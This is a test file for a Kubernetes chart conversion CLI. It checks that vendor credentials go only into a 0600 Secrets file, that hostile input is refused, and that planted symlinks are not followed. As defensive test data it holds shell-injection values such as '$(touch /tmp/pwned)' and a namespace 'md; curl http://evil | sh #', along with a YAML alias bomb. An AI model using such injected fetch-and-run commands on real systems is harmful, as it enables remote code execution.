/**
 * `chart-as-code convert-values` against hostile or careless input: credentials in the vendor values never
 * reach our values, the report, stdout/stderr or a temporary file (only the 0600 Secrets file), and every
 * bad input or output path ends in one line naming it, a non-zero exit and no file left behind. Run
 * in-process (main) and, for exit codes and the absence of stack traces, as a child process.
 */
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import YAML from 'yaml';
import { createExclusive, main, MAX_YAML_ALIASES } from '../../lib/cli';
import { convertVendorValues, isNamespace, reportMarkdown, secretsManifest, shellWords, VendorChart } from '../../lib/convert/vendor-values';
import { ChartDefinition } from '../../lib/core/chart';
import { MAX_INPUT_BYTES } from '../../lib/core/input';
import { mdCoreChart } from '../../lib/systems/md-core';
import { mdIcapsrvChart } from '../../lib/systems/md-icapsrv';
import { renderSystem } from '../support/render';

const REPO = path.resolve(__dirname, '../..');
const FIXTURES = path.join(REPO, 'test/fixtures/vendor-charts');
const vendorDefaults = (chart: 'icap' | 'mdcore') => YAML.parse(fs.readFileSync(path.join(FIXTURES, chart, 'values.yaml'), 'utf8'), { version: '1.1' }) as Record<string, any>;

const tmpDir = () => fs.mkdtempSync(path.join(os.tmpdir(), 'adv-convert-'));

function run(argv: string[]): { code: number; stdout: string; stderr: string } {
  let stdout = '';
  let stderr = '';
  const code = main(argv, { stdout: (s) => (stdout += s), stderr: (s) => (stderr += s) });
  return { code, stdout, stderr };
}

/** The real program in a child process (tsx), as a user runs it. */
function cli(argv: string[]): { code: number; stdout: string; stderr: string } {
  const r = spawnSync(process.execPath, ['--require', 'tsx/cjs', path.join(REPO, 'lib/cli/index.ts'), ...argv], { cwd: REPO, encoding: 'utf8' });
  return { code: r.status ?? -1, stdout: r.stdout, stderr: r.stderr };
}

/** One line on stderr, no stack trace. */
function expectOneLine(stderr: string): void {
  expect(stderr).toMatch(/^chart-as-code: [^\n]+\n$/);
  expect(stderr).not.toMatch(/\bat .*\(.*:\d+:\d+\)|\.ts:\d+/);
}

/** Every file under `dir` (dotfiles included), relative. */
const listing = (dir: string) => fs.readdirSync(dir).sort();

/** Credentials in every place the vendor charts take one, shell metacharacters included. */
const SECRETS = {
  admin: `Adm1n'$(touch /tmp/pwned)`,
  apiKey: 'API-KEY-4f1c;ls',
  license: 'LIC-ENSE-77|sh',
  dbPassword: 'db-P@ss "q"',
  olmsToken: 'OLMS-T0KEN-`id`',
  proxy: 'Pr0xy-pw%x',
  importPassword: 'imp0rt-pw&&x',
  certPassphrase: 'cert-passphrase\\n',
  envToken: 'env-token-9Z',
  envPassword: 'env-pw-yes',
  listPassword: 'list-pw-Q',
  initPassword: 'init-container-pw',
} as const;

function mdcoreWithSecrets(): Record<string, any> {
  const v = vendorDefaults('mdcore');
  return {
    ...v,
    mdcore_password: SECRETS.admin,
    mdcore_api_key: SECRETS.apiKey,
    mdcore_license_key: SECRETS.license,
    db_password: SECRETS.dbPassword,
    env: {
      ...v.env,
      OLMS_HOST_URL: 'olms.example.com',
      OLMS_TOKEN: SECRETS.olmsToken,
      OLMS_REST_PORT: '8000',
      OLMS_SOCKET_PORT: '3000',
      PROXY: true,
      PROXY_HOST: 'proxy.internal',
      PROXY_USER: 'svc',
      PROXY_PWD: SECRETS.proxy,
      MDCORE_CERT_PASSPHRASE: SECRETS.certPassphrase,
      MDCORE_CONFIG_IMPORT_FILE: '/import/settings.zip',
      MDCORE_CONFIG_IMPORT_PASSWORD: SECRETS.importPassword,
      // Env names that are not vendor settings: secret-looking ones must not stay literals.
      SERVICE_TOKEN: SECRETS.envToken,
      FOO: 'bar',
    },
  };
}

function icapWithSecrets(): Record<string, any> {
  const v = vendorDefaults('icap');
  const icap = v.icap_components.md_icapsrv;
  return {
    ...v,
    mdicapsrv_password: SECRETS.admin,
    mdicapsrv_api_key: SECRETS.apiKey,
    mdicapsrv_license_key: SECRETS.license,
    db_password: SECRETS.dbPassword,
    olms: { ...v.olms, enabled: true, olms_token: SECRETS.olmsToken, olms_rest_port: 8000, olms_socket_port: 3000 },
    proxy: { enabled: true, http_proxy: `http://svc:${encodeURIComponent(SECRETS.proxy)}@proxy.internal:3128`, https_proxy: '', no_proxy: 'localhost' },
    env: { ...v.env, LEGACY_PASSWORD: SECRETS.envPassword },
    icap_components: {
      ...v.icap_components,
      md_icapsrv: {
        ...icap,
        import_configuration: { ...icap.import_configuration, enabled: true, importConfigMap: 'export', importConfigFilePass: SECRETS.importPassword },
        // A container copied as it is, with a literal credential in its env.
        initContainers: [...icap.initContainers, { name: 'migrate', image: 'busybox:1.36', env: [{ name: 'DB_PASSWORD', value: SECRETS.initPassword }] }],
        // The tester's case: a literal in the container's env list, e.g. the admin password.
        env: [...icap.env.filter((e: { name: string }) => e.name !== 'MD_PWD'), { name: 'MD_PWD', value: SECRETS.admin }, { name: 'EXTRA_SECRET', value: SECRETS.listPassword }],
      },
    },
  };
}

type SecretName = keyof typeof SECRETS;
/** `stored`: the form a Secret holds where it differs (ICAP's proxy password stays URL-encoded: ours puts it back into http_proxy). */
const CASES: { chart: VendorChart; values: () => Record<string, any>; ours: ChartDefinition<any>; secrets: SecretName[]; stored?: Partial<Record<SecretName, string>> }[] = [
  { chart: 'vendor-mdcore', values: mdcoreWithSecrets, ours: mdCoreChart, secrets: ['admin', 'apiKey', 'license', 'dbPassword', 'olmsToken', 'proxy', 'importPassword', 'certPassphrase', 'envToken'] },
  {
    chart: 'vendor-icap',
    values: icapWithSecrets,
    ours: mdIcapsrvChart,
    secrets: ['admin', 'apiKey', 'license', 'dbPassword', 'olmsToken', 'proxy', 'importPassword', 'envPassword', 'listPassword', 'initPassword'],
    stored: { proxy: encodeURIComponent(SECRETS.proxy) },
  },
];

/** Every secretKeyRef in the rendered objects, as "secret/key". */
function secretRefs(v: unknown, out = new Set<string>()): Set<string> {
  if (Array.isArray(v)) v.forEach((x) => secretRefs(x, out));
  else if (v && typeof v === 'object') {
    const ref = (v as { secretKeyRef?: { name: string; key: string } }).secretKeyRef;
    if (ref) out.add(`${ref.name}/${ref.key}`);
    Object.values(v).forEach((x) => secretRefs(x, out));
  }
  return out;
}

describe('vendor credentials go into a 0600 Secrets file and nowhere else', () => {
  for (const { chart, values, ours, secrets, stored: storedAs = {} } of CASES) {
    it(`${chart}: values, report, stdout and stderr hold none; the Secrets file holds each, and our pods read it`, () => {
      const dir = tmpDir();
      const input = path.join(dir, 'vendor.yaml');
      fs.writeFileSync(input, YAML.stringify(values(), { version: '1.1' }));
      const r = run(['convert-values', '--from', chart, input, '--out', path.join(dir, 'values.yaml'), '--report', path.join(dir, 'report.md'), '--secrets-out', path.join(dir, 'secrets.yaml'), '--namespace', 'scan']);
      expect(r.stderr).toMatch(/credentials written to .*secrets\.yaml\n$/);
      expect(r.code).toBe(0);
      expect(listing(dir)).toEqual(['report.md', 'secrets.yaml', 'values.yaml', 'vendor.yaml']);
      expect(fs.statSync(path.join(dir, 'secrets.yaml')).mode & 0o777).toBe(0o600);
      const outputs = [r.stdout, r.stderr, fs.readFileSync(path.join(dir, 'values.yaml'), 'utf8'), fs.readFileSync(path.join(dir, 'report.md'), 'utf8')].join('\n');
      for (const name of secrets) {
        expect(outputs, name).not.toContain(SECRETS[name]);
        expect(outputs, name).not.toContain(storedAs[name] ?? SECRETS[name]);
      }

      // The Secrets file: v1 Secrets as kubectl reads them (YAML 1.1), each credential once, byte for byte.
      const docs = YAML.parseAllDocuments(fs.readFileSync(path.join(dir, 'secrets.yaml'), 'utf8'), { version: '1.1' }).map((d) => d.toJS());
      const stored = docs.flatMap((d) => Object.values(d.stringData as Record<string, unknown>));
      for (const name of secrets) expect(stored, name).toContain(storedAs[name] ?? SECRETS[name]);
      for (const d of docs) expect(d).toMatchObject({ apiVersion: 'v1', kind: 'Secret', type: 'Opaque', metadata: { namespace: 'scan' } });

      // Our chart with the converted values: it renders none of these Secrets itself (the applied one is
      // used as it is), and its pods read every key written (so the Secret really feeds them).
      const converted = YAML.parse(fs.readFileSync(path.join(dir, 'values.yaml'), 'utf8'), { version: '1.1' });
      const objects = renderSystem(ours, converted).objects;
      const refs = secretRefs(objects);
      for (const d of docs) {
        expect(objects.filter((o) => o.kind === 'Secret' && o.metadata.name === d.metadata.name), d.metadata.name).toEqual([]);
        for (const key of Object.keys(d.stringData)) expect([...refs], `${d.metadata.name}/${key}`).toContain(`${d.metadata.name}/${key}`);
      }
    });
  }

  it('without --secrets-out: no Secrets file, values on stdout name the Secrets, the report gives commands reading files', () => {
    const dir = tmpDir();
    const input = path.join(dir, 'vendor.yaml');
    fs.writeFileSync(input, YAML.stringify(mdcoreWithSecrets()));
    const r = run(['convert-values', '--from', 'vendor-mdcore', input, '--report', path.join(dir, 'report.md')]);
    expect(r.code).toBe(0);
    expect(listing(dir)).toEqual(['report.md', 'vendor.yaml']);
    const report = fs.readFileSync(path.join(dir, 'report.md'), 'utf8');
    for (const s of Object.values(SECRETS)) expect(r.stdout + r.stderr + report).not.toContain(s);
    expect(YAML.parse(r.stdout)).toMatchObject({ credentials: { existingSecret: 'mdcore-cred' }, apiKey: { existingSecret: 'mdcore-api-key' } });
    expect(r.stderr).toContain('credentials not written: give --secrets-out');
    expect(report).toContain("kubectl -n '<namespace>' create secret generic mdcore-cred --from-literal=user=admin '--from-file=password=<file holding mdcore_password>'");
    expect(report).toContain('- Secret `mdcore-extra-env` key `SERVICE_TOKEN` ← `env.SERVICE_TOKEN` (secret, 12 characters)');
  });

  it('--secrets-out without credentials writes no file; in place, credentials the vendor Secrets hold are not written again', () => {
    const dir = tmpDir();
    const none = run(['convert-values', '--from', 'vendor-mdcore', path.join(FIXTURES, 'mdcore', 'values.yaml'), '--secrets-out', path.join(dir, 's.yaml')]);
    expect(none.code).toBe(0);
    expect(none.stderr).toContain(`no credentials, ${path.join(dir, 's.yaml')} not written`);
    expect(listing(dir)).toEqual([]);
    const c = convertVendorValues('vendor-mdcore', mdcoreWithSecrets(), { inPlace: true, namespace: 'md' });
    expect(c.secrets.map((s) => s.name).sort()).toEqual(['mdcore-cert-passphrase', 'mdcore-config-import', 'mdcore-extra-env', 'mdcore-olms', 'mdcore-proxy']);
    expect(c.values).toMatchObject({ credentials: { existingSecret: 'mdcore-cred' }, apiKey: { existingSecret: 'mdcore-api-key' }, license: { existingSecret: 'mdcore-license-key' } });
  });

  it('random credentials, shell metacharacters and YAML look-alikes included, never reach the values or report, and round-trip through the Secrets file', () => {
    const secret = fc.string({ unit: fc.constantFrom(...'aZ09 \'"`$;|&()<>\\\n#*?~!{}[]:,-yesnoON'.split('')), minLength: 1, maxLength: 24 }).filter((s) => s.trim().length >= 6);
    fc.assert(
      fc.property(secret, secret, fc.constantFrom('MY_TOKEN', 'DB_PASSWORD', 'S3_SECRET_KEY', 'MD_PWD', 'APIKEY', 'LICENSE_KEY'), (password, envValue, envName) => {
        fc.pre(password !== envValue && !password.includes(envValue) && !envValue.includes(password));
        const v = vendorDefaults('mdcore');
        const c = convertVendorValues('vendor-mdcore', { ...v, mdcore_user: 'admin', db_password: password, env: { ...v.env, [envName]: envValue } }, { namespace: 'md', secretsFile: 'secrets.yaml' });
        const visible = YAML.stringify(c.values) + reportMarkdown(c, 'v.yaml');
        expect(visible).not.toContain(password);
        expect(visible).not.toContain(envValue);
        const docs = YAML.parseAllDocuments(secretsManifest(c), { version: '1.1' }).map((d) => d.toJS());
        const stored = docs.flatMap((d) => Object.values(d.stringData));
        expect(stored).toContain(password);
        expect(stored).toContain(envValue);
      }),
      { numRuns: 60 },
    );
  });

  it('two vendor keys giving one credential different values are refused, naming both keys and neither value', () => {
    const dir = tmpDir();
    const input = path.join(dir, 'vendor.yaml');
    fs.writeFileSync(input, YAML.stringify({ mdcore_password: 'first-Secret-1', env: { MD_PWD: 'second-Secret-2' } }));
    const r = run(['convert-values', '--from', 'vendor-mdcore', input, '--secrets-out', path.join(dir, 's.yaml'), '--out', path.join(dir, 'v.yaml')]);
    expect(r.code).toBe(1);
    expectOneLine(r.stderr);
    expect(r.stderr).toContain('env.MD_PWD: mdcore_password gives the Secret mdcore-cred key "password" another value');
    expect(r.stderr).not.toMatch(/first-Secret|second-Secret/);
    expect(listing(dir)).toEqual(['vendor.yaml']);
  });

  it('a secret-looking value of the wrong type is refused without showing it', () => {
    const dir = tmpDir();
    const input = path.join(dir, 'vendor.yaml');
    fs.writeFileSync(input, YAML.stringify({ env: { SERVICE_TOKEN: { nested: 'hidden-Secret-3' } } }));
    const r = run(['convert-values', '--from', 'vendor-mdcore', input]);
    expect(r.code).toBe(1);
    expectOneLine(r.stderr);
    expect(r.stderr).toContain('env.SERVICE_TOKEN: expected a string');
    expect(r.stderr).not.toContain('hidden-Secret-3');
  });

  it('a value our schema refuses is named in one line, with the issues joined', () => {
    const dir = tmpDir();
    const input = path.join(dir, 'vendor.yaml');
    fs.writeFileSync(input, 'core_components:\n  md-core:\n    replicas: 500\n');
    const r = run(['convert-values', '--from', 'vendor-mdcore', input]);
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(`chart-as-code: ${input}: invalid values for md-core: replicaCount: Too big: expected number to be <=100\n`);
  });

  it('a YAML syntax error does not quote the file (which may hold a credential)', () => {
    const dir = tmpDir();
    const input = path.join(dir, 'vendor.yaml');
    fs.writeFileSync(input, 'mdcore_password: "quoted-Secret-4\n  broken: [\n');
    const r = run(['convert-values', '--from', 'vendor-mdcore', input]);
    expect(r.code).toBe(1);
    expectOneLine(r.stderr);
    expect(r.stderr).not.toContain('quoted-Secret-4');
  });
});

describe('the vendor env map (mdcore)', () => {
  it('env: {FOO: bar} converts to extraEnv (it failed with "expected array, received string")', () => {
    const dir = tmpDir();
    const input = path.join(dir, 'vendor.yaml');
    fs.writeFileSync(input, 'env:\n  FOO: bar\n  ANSWER: 42\n');
    const r = run(['convert-values', '--from', 'vendor-mdcore', input]);
    expect(r.stderr).not.toContain('expected array');
    expect(r.code).toBe(0);
    expect(YAML.parse(r.stdout).extraEnv).toEqual([
      { name: 'FOO', value: 'bar' },
      { name: 'ANSWER', value: '42' },
    ]);
  });

  it('an env name that is not one is refused in one line', () => {
    const dir = tmpDir();
    const input = path.join(dir, 'vendor.yaml');
    fs.writeFileSync(input, 'env:\n  "A B\\nC": x\n');
    const r = run(['convert-values', '--from', 'vendor-mdcore', input]);
    expect(r.code).toBe(1);
    expectOneLine(r.stderr);
    expect(r.stderr).toContain('not an environment variable name');
  });
});

describe('bad input: one line, non-zero exit, nothing written', () => {
  const bomb = ['a: &a ["x","x","x","x","x","x","x","x","x"]', ...'bcdefgh'.split('').map((k, i) => `${k}: &${k} [${Array(9).fill(`*${'abcdefgh'[i]}`).join(',')}]`)].join('\n');

  it('an alias bomb (billion laughs) is refused before it is expanded', () => {
    const dir = tmpDir();
    const input = path.join(dir, 'bomb.yaml');
    fs.writeFileSync(input, bomb);
    const started = Date.now();
    const r = run(['convert-values', '--from', 'vendor-icap', input, '--out', path.join(dir, 'v.yaml')]);
    expect(Date.now() - started).toBeLessThan(5000);
    expect(r.code).toBe(1);
    expect(r.stderr).toBe(`chart-as-code: ${input}: too many YAML aliases (more than ${MAX_YAML_ALIASES} expansions): refused as a possible alias bomb\n`);
    expect(listing(dir)).toEqual(['bomb.yaml']);
  });

  it('a directory, /dev/zero, a file over the size limit, a missing file', () => {
    const dir = tmpDir();
    const huge = path.join(dir, 'huge.yaml');
    fs.writeFileSync(huge, '');
    fs.truncateSync(huge, MAX_INPUT_BYTES + 1);
    for (const [input, message] of [
      [dir, 'is a directory, not a file'],
      ['/dev/zero', 'not a regular file'],
      [huge, `${MAX_INPUT_BYTES + 1} bytes, over the limit of ${MAX_INPUT_BYTES} bytes`],
      [path.join(dir, 'missing.yaml'), 'no such file'],
    ] as const) {
      const r = run(['convert-values', '--from', 'vendor-mdcore', input, '--out', path.join(dir, 'v.yaml')]);
      expect(r.code, input).toBe(1);
      expectOneLine(r.stderr);
      expect(r.stderr).toContain(`${input}: ${message}`);
    }
    expect(listing(dir)).toEqual(['huge.yaml']);
  });

  it('as a child process: exit codes, one line on stderr, no stack trace', () => {
    const dir = tmpDir();
    fs.writeFileSync(path.join(dir, 'bomb.yaml'), bomb);
    fs.writeFileSync(path.join(dir, 'v.yaml'), 'env:\n  FOO: bar\n');
    for (const [argv, code] of [
      [['convert-values', '--from', 'vendor-icap', path.join(dir, 'bomb.yaml')], 1],
      [['convert-values', '--from', 'vendor-icap', dir], 1],
      [['convert-values', '--from', 'vendor-mdcore', path.join(dir, 'v.yaml'), '--out', path.join(dir, 'missing', 'x.yaml')], 1],
      [['convert-values', '--from', 'vendor-mdcore', path.join(dir, 'v.yaml'), '--namespace', 'md; curl http://evil | sh #'], 2],
      [['convert-values', '--from', 'vendor-mdcore', path.join(dir, 'v.yaml'), '--bogus'], 2],
    ] as const) {
      const r = cli([...argv]);
      expect(r.code, argv.join(' ')).toBe(code);
      expectOneLine(r.stderr);
      expect(r.stdout).toBe('');
    }
    expect(listing(dir)).toEqual(['bomb.yaml', 'v.yaml']);
    const ok = cli(['convert-values', '--from', 'vendor-mdcore', path.join(dir, 'v.yaml')]);
    expect(ok.code).toBe(0);
    expect(YAML.parse(ok.stdout).extraEnv).toEqual([{ name: 'FOO', value: 'bar' }]);
  });
});

describe('output paths', () => {
  const setup = () => {
    const dir = tmpDir();
    const input = path.join(dir, 'vendor.yaml');
    fs.writeFileSync(input, YAML.stringify(mdcoreWithSecrets()));
    return { dir, input, convert: (...extra: string[]) => run(['convert-values', '--from', 'vendor-mdcore', input, ...extra]) };
  };

  it('refuses up front: a directory, a missing directory, two flags on one file, the input, an existing secrets file', () => {
    const { dir, input, convert } = setup();
    fs.mkdirSync(path.join(dir, 'sub'));
    fs.writeFileSync(path.join(dir, 'old-secrets.yaml'), 'keep');
    fs.symlinkSync(input, path.join(dir, 'link-to-input.yaml'));
    fs.symlinkSync(path.join(dir, 'nowhere'), path.join(dir, 'dangling'));
    const cases: [string[], string][] = [
      [['--out', path.join(dir, 'sub')], `--out ${path.join(dir, 'sub')}: is a directory`],
      [['--report', path.join(dir, 'nope', 'r.md')], `--report ${path.join(dir, 'nope', 'r.md')}: no such directory ${path.join(dir, 'nope')}`],
      [['--out', path.join(dir, 'x'), '--report', path.join(dir, 'x')], `--report ${path.join(dir, 'x')}: the same file as --out ${path.join(dir, 'x')}`],
      [['--out', path.join(dir, 'y'), '--secrets-out', path.join(dir, 'sub', '..', 'y')], 'the same file as --out'],
      [['--out', input], `--out ${input}: the same file as the input`],
      [['--report', path.join(dir, 'link-to-input.yaml')], 'the same file as the input'],
      [['--secrets-out', path.join(dir, 'old-secrets.yaml')], 'exists; a secrets file is never overwritten'],
      // A symlink planted where the secrets go (even dangling) would send them elsewhere.
      [['--secrets-out', path.join(dir, 'dangling')], 'exists; a secrets file is never overwritten'],
      [['--out', path.join(dir, 'v.yaml'), '--out', path.join(dir, 'w.yaml')], '--out given twice'],
    ];
    for (const [flags, message] of cases) {
      const r = convert(...flags);
      expect(r.code, flags.join(' ')).not.toBe(0);
      expectOneLine(r.stderr);
      expect(r.stderr).toContain(message);
      expect(r.stdout).toBe('');
    }
    expect(listing(dir)).toEqual(['dangling', 'link-to-input.yaml', 'old-secrets.yaml', 'sub', 'vendor.yaml']);
    expect(fs.existsSync(path.join(dir, 'nowhere'))).toBe(false);
    expect(fs.readFileSync(path.join(dir, 'old-secrets.yaml'), 'utf8')).toBe('keep');
  });

  it('a failure while writing removes every temporary file and every file already written', () => {
    const { dir, convert } = setup();
    // The report's temporary name exceeds the 255-byte name limit: creating it fails after the values' was written.
    const longReport = path.join(dir, `${'r'.repeat(245)}.md`);
    const r = convert('--out', path.join(dir, 'values.yaml'), '--secrets-out', path.join(dir, 'secrets.yaml'), '--report', longReport);
    expect(r.code).toBe(1);
    expectOneLine(r.stderr);
    expect(r.stderr).toContain(`--report ${longReport}: cannot write`);
    expect(listing(dir)).toEqual(['vendor.yaml']);
  });

  it('a symlink planted at a temporary name (the old .<out>.<pid>.tmp, or any) is never followed', () => {
    const { dir, convert } = setup();
    const victim = path.join(tmpDir(), 'victim');
    fs.writeFileSync(victim, 'untouched');
    const planted = ['values.yaml', 'report.md', 'secrets.yaml'].flatMap((f) => [`.${f}.${process.pid}.tmp`, `.${f}.tmp`]);
    for (const p of planted) fs.symlinkSync(victim, path.join(dir, p));
    const r = convert('--out', path.join(dir, 'values.yaml'), '--report', path.join(dir, 'report.md'), '--secrets-out', path.join(dir, 'secrets.yaml'));
    expect(r.code).toBe(0);
    expect(fs.readFileSync(victim, 'utf8')).toBe('untouched');
    expect(listing(dir)).toEqual([...planted, 'report.md', 'secrets.yaml', 'values.yaml', 'vendor.yaml'].sort());
    for (const f of ['values.yaml', 'report.md', 'secrets.yaml']) expect(fs.lstatSync(path.join(dir, f)).isFile()).toBe(true);
    // An output that is itself a symlink is replaced, not written through.
    fs.rmSync(path.join(dir, 'values.yaml'));
    fs.symlinkSync(victim, path.join(dir, 'values.yaml'));
    expect(convert('--out', path.join(dir, 'values.yaml')).code).toBe(0);
    expect(fs.readFileSync(victim, 'utf8')).toBe('untouched');
  });

  it('temporary files are created exclusively: an existing file or symlink at the name fails, its target untouched', () => {
    const dir = tmpDir();
    const victim = path.join(dir, 'victim');
    fs.writeFileSync(victim, 'untouched');
    fs.symlinkSync(victim, path.join(dir, 'link'));
    expect(() => createExclusive(path.join(dir, 'link'), 'x', 0o600)).toThrow(/EEXIST/);
    expect(() => createExclusive(victim, 'x', 0o600)).toThrow(/EEXIST/);
    expect(fs.readFileSync(victim, 'utf8')).toBe('untouched');
    createExclusive(path.join(dir, 'new'), 'secret', 0o600);
    expect(fs.statSync(path.join(dir, 'new')).mode & 0o777).toBe(0o600);
  });
});

describe('namespaces and commands', () => {
  const input = path.join(FIXTURES, 'mdcore', 'values.yaml');

  it('--namespace is accepted iff it is a DNS-1123 label of at most 63 characters', () => {
    const label = /^[a-z0-9]([-a-z0-9]{0,61}[a-z0-9])?$/;
    const ns = fc.oneof(fc.stringMatching(/^[a-z0-9][-a-z0-9]{0,70}$/), fc.string({ maxLength: 20 }), fc.constantFrom('md; curl x | sh #', '$(id)', 'a'.repeat(63), 'a'.repeat(64), '-md', 'md-', 'MD', ''));
    fc.assert(
      fc.property(ns, (namespace) => {
        expect(isNamespace(namespace)).toBe(label.test(namespace));
        const r = run(['convert-values', '--from', 'vendor-mdcore', input, '--namespace', namespace]);
        expect(r.code).toBe(label.test(namespace) ? 0 : 2);
        if (r.code === 2) expectOneLine(r.stderr);
      }),
      { numRuns: 40 },
    );
    expect(() => convertVendorValues('vendor-mdcore', {}, { namespace: 'md; curl x | sh #' })).toThrow('not a Kubernetes namespace');
  });

  it('every word of a report command is shell-quoted: sh sees exactly the words', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ minLength: 0, maxLength: 12 }).filter((w) => !w.includes('\0')), { minLength: 1, maxLength: 5 }), (words) => {
        const r = spawnSync('sh', ['-c', `printf '%s\\0' ${shellWords(words)}`], { encoding: 'utf8' });
        expect(r.stdout.split('\0').slice(0, -1)).toEqual(words);
      }),
      { numRuns: 40 },
    );
  });

  it('a vendor value in a report command cannot inject a shell command', () => {
    // Short: the user name is at most 64 characters.
    const marker = path.join(os.tmpdir(), `pw${process.pid}`);
    fs.rmSync(marker, { force: true });
    const v = vendorDefaults('mdcore');
    // The user name goes into the command as a literal (it is not a secret).
    const c = convertVendorValues('vendor-mdcore', { ...v, mdcore_user: `admin$(touch ${marker})'; touch ${marker}; '`, mdcore_password: 'pw' }, { namespace: 'md' });
    const commands = reportMarkdown(c, 'v.yaml')
      .split('\n')
      .map((l) => l.trim())
      .filter((l) => l.startsWith('kubectl '));
    expect(commands.length).toBeGreaterThan(0);
    const words = commands.map((command) => spawnSync('sh', ['-c', command.replace(/^kubectl /, 'printf "%s\\n" ')], { encoding: 'utf8' }).stdout);
    expect(fs.existsSync(marker)).toBe(false);
    expect(words.join('')).toContain(`--from-literal=user=admin$(touch ${marker})'; touch ${marker}; '\n`);
  });
});

describe('usage', () => {
  it('--help and -h print the usage and exit 0, on the CLI and on convert-values; --version prints the version', () => {
    for (const argv of [['--help'], ['-h'], ['convert-values', '--help'], ['convert-values', '-h']]) {
      const r = run(argv);
      expect(r.code, argv.join(' ')).toBe(0);
      expect(r.stdout).toContain('--secrets-out');
      expect(r.stderr).toBe('');
    }
    const version = JSON.parse(fs.readFileSync(path.join(REPO, 'package.json'), 'utf8')).version;
    expect(run(['--version'])).toEqual({ code: 0, stdout: `${version}\n`, stderr: '' });
    expect(cli(['--version'])).toEqual({ code: 0, stdout: `${version}\n`, stderr: '' });
  });
});
